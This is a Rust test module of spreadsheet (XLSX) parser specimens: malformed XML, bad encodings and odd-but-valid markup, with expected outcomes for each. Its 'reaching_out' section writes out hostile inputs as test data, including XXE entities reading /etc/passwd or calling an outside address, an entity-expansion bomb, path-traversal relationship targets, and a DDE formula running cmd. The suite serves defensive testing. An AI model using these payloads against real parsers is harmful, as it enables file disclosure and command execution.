//! XML that is none, or that reaches for something else.

use super::{DAMAGED, Expected, Take, people, people_and, read, sound, specimen};
use crate::package::{Package, relationships, row, worksheet};

const CLASS: &str = "markup";
const SHEET: &str = "xl/worksheets/sheet1.xml";

pub(super) fn specimens(take: Take<'_>) {
    reaching_out(take);
    for part in [
        "",
        " ",
        "no tag at all",
        "<worksheet>",
        "<worksheet/",
        "<worksheet",
        "<",
        "</worksheet>",
        "<worksheet><sheetData></worksheet></sheetData>",
        "<worksheet><sheetData/></worksheet",
        "<worksheet><sheetData/></worksheet><",
        "<worksheet><sheetData/></worksheet></worksheet>",
        "<worksheet><sheetData/></Worksheet>",
        "<worksheet><?><sheetData/></worksheet>",
        "<worksheet><![IGNORE[ ]]><sheetData/></worksheet>",
        "<worksheet><![CDATA[<sheetData/></worksheet>",
        "<worksheet>< sheetData/></worksheet>",
        "<worksheet><></></worksheet>",
        "<worksheet><sheetData a='<'/></worksheet>",
        "<worksheet><sheetData a=1/></worksheet>",
        "<worksheet><sheetData a/></worksheet>",
        "<worksheet><sheetData a='/></worksheet>",
        "<worksheet><sheetData a=\"'/></worksheet>",
        "<worksheet><!-- <sheetData/></worksheet>",
        "<worksheet><row><c><v>&unknown;</v></c></row></worksheet>",
        "<worksheet><row><c><v>a & b</v></c></row></worksheet>",
        "<worksheet><row><c><v>&#0;</v></c></row></worksheet>",
        "<worksheet><row><c><v>&#xD800;</v></c></row></worksheet>",
        "<worksheet><row><c><v>&#x110000;</v></c></row></worksheet>",
        "<worksheet><row><c><v>&#99999999999;</v></c></row></worksheet>",
        "<?xml version='1.0' encoding='UTF-16'?><worksheet><sheetData/></worksheet>",
        "<?xml version='1.0' encoding='ISO-8859-1'?><worksheet><sheetData/></worksheet>",
        "<?xml version='1.0' encoding='UTF-7'?><worksheet><sheetData/></worksheet>",
        "<worksheet><sheetData><row><c><c><v>1</v></c></c></row></sheetData></worksheet>",
        "<worksheet><sheetData><row><c><is><si/></is></c></row></sheetData></worksheet>",
    ] {
        let shown: String = part.chars().take(60).collect();
        take(specimen(CLASS, format!("sheet `{shown}`"), sound().with(SHEET, part).bytes(), DAMAGED));
    }
    for (name, bytes) in [
        ("Latin-1", b"<worksheet><x>\xE9</x></worksheet>".to_vec()),
        ("half a character", b"<worksheet><x>\xC3</x></worksheet>".to_vec()),
        ("a surrogate in UTF-8", b"<worksheet><x>\xED\xA0\x80</x></worksheet>".to_vec()),
        ("an overlong slash", b"<worksheet><x>\xC0\xAF</x></worksheet>".to_vec()),
        ("UTF-16", "<worksheet/>".encode_utf16().flat_map(u16::to_le_bytes).collect()),
        ("UTF-16, the other way", "<worksheet/>".encode_utf16().flat_map(u16::to_be_bytes).collect()),
        ("a NUL in a name", b"<work\0sheet/>".to_vec()),
    ] {
        let mut package = sound();
        package.set_bytes(SHEET, bytes);
        take(specimen(CLASS, name, package.bytes(), DAMAGED));
    }
    odd_but_right(take);
}

fn reaching_out(take: Take<'_>) {
    let mut add =
        |name: String, bytes: Vec<u8>, expected| take(specimen("reaching out", name, bytes, expected));
    let sheet = worksheet(&row(1, &["email", "name", "&e;"]))
        .replace("<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>", "");
    for declaration in [
        "<!DOCTYPE x>",
        "<!DOCTYPE x SYSTEM 'http://192.0.2.1/x.dtd'>",
        "<!DOCTYPE x PUBLIC '-//X//EN' 'http://192.0.2.1/x.dtd'>",
        "<!DOCTYPE x [<!ENTITY e 'text'>]>",
        "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>",
        "<!DOCTYPE x [<!ENTITY e SYSTEM 'http://192.0.2.1/'>]>",
        "<!DOCTYPE x [<!ENTITY % p SYSTEM 'http://192.0.2.1/'> %p;]>",
        "<!DOCTYPE x [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;'><!ENTITY e '&b;&b;&b;&b;&b;&b;'>]>",
        "<!doctype x>",
        "<!ENTITY e 'text'>",
    ] {
        for part in [SHEET, "xl/workbook.xml", "xl/sharedStrings.xml", "xl/styles.xml", "_rels/.rels"] {
            let content = if part == SHEET { sheet.clone() } else { "<x/>".to_owned() };
            let bytes = sound().with(part, &format!("{declaration}{content}")).bytes();
            add(format!("{part}: {declaration}"), bytes, DAMAGED);
        }
    }
    let link = sound().with("xl/externalLinks/externalLink1.xml", "<externalLink/>");
    add("a link to another workbook".into(), link.bytes(), Expected::Refused(&["external_links"]));
    let target = |kind, target| {
        sound().with("xl/_rels/workbook.xml.rels", &relationships(&[("rId1", kind, target)])).bytes()
    };
    for place in [
        "http://192.0.2.1/sheet1.xml",
        "file:///etc/passwd",
        "\\\\192.0.2.1\\share\\sheet1.xml",
        "../../../etc/passwd",
        "/etc/passwd",
        "worksheets/sheet1.bin",
        "worksheets/sheet1&#46;png",
        "/customXml/item1.xml",
        "worksheets/absent.xml",
        "",
    ] {
        add(format!("a sheet at `{place}`"), target("worksheet", place), DAMAGED);
    }
    let hyperlink = worksheet(&people())
        .replace("</worksheet>", r#"<hyperlinks><hyperlink ref="A2" r:id="rId1"/></hyperlinks></worksheet>"#);
    let rels = r#"<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="mailto:a@example.com" TargetMode="External"/></Relationships>"#;
    add(
        "a link to write to somebody".into(),
        sound().with(SHEET, &hyperlink).with("xl/worksheets/_rels/sheet1.xml.rels", rels).bytes(),
        read(1, 0),
    );
    let include = people_and(r#"<xi:include href="http://192.0.2.1/"/><c><v>1</v></c>"#);
    add("XInclude".into(), Package::new("users", &include).bytes(), read(1, 1));
    let stylesheet = format!(
        "<?xml-stylesheet href='http://192.0.2.1/x.xsl'?>{}",
        worksheet(&people()).replace("<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>", "")
    );
    add("a stylesheet".into(), sound().with(SHEET, &stylesheet).bytes(), read(1, 0));
    add(
        "connections".into(),
        sound()
            .with(
                "xl/connections.xml",
                r#"<connections><connection><webPr url="http://192.0.2.1/"/></connection></connections>"#,
            )
            .bytes(),
        read(1, 0),
    );
    let call = people_and(
        r#"<c r="A3" t="str"><f>WEBSERVICE("http://192.0.2.1/")</f><v>b@example.com</v></c><c r="B3" t="str"><f>cmd|'/C calc'!A0</f><v>B</v></c>"#,
    );
    add("formulas that call out".into(), Package::new("users", &call).bytes(), read(2, 0));
}

fn odd_but_right(take: Take<'_>) {
    let plain = worksheet(&people());
    let bare = plain.replace("<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>", "");
    let prefixed = bare.replace("</", "</x:").replace('<', "<x:").replace("<x:/x:", "</x:");
    for (name, part) in [
        ("no declaration", bare.clone()),
        ("a byte order mark", format!("\u{FEFF}{plain}")),
        ("a prefix on every element", prefixed),
        ("comments everywhere", bare.replace("<row", "<!-- a > b --><row").replace("<t>", "<!--x--><t>")),
        ("processing instructions", bare.replace("<row", "<?php echo 1 ?><row")),
        ("quotes of the other kind", bare.replace('"', "'")),
        (
            "line ends everywhere",
            bare.replace('>', ">\r\n").replace("<t>\r\n", "<t>").replace("\r\n</t>", "</t>"),
        ),
        ("blanks before the ends of tags", bare.replace("\">", "\" >").replace("</row>", "</row  >")),
        ("a `>` in quotes", bare.replace("<sheetData>", r#"<x a="> " b='">'/><sheetData>"#)),
        (
            "unknown elements",
            bare.replace("<sheetData>", "<mc:AlternateContent><mc:Choice/></mc:AlternateContent><sheetData>"),
        ),
        ("encoding named in lower case", format!("<?xml version='1.0' encoding='utf-8'?>{bare}")),
    ] {
        take(specimen("odd markup", name, sound().with(SHEET, &part).bytes(), read(1, 0)));
    }
    let cdata = people_and(
        r#"<c r="A3" t="inlineStr"><is><t><![CDATA[b@example.com]]></t></is></c><c r="B3" t="inlineStr"><is><t>B</t></is></c>"#,
    );
    take(specimen("odd markup", "CDATA", Package::new("users", &cdata).bytes(), read(2, 0)));
}
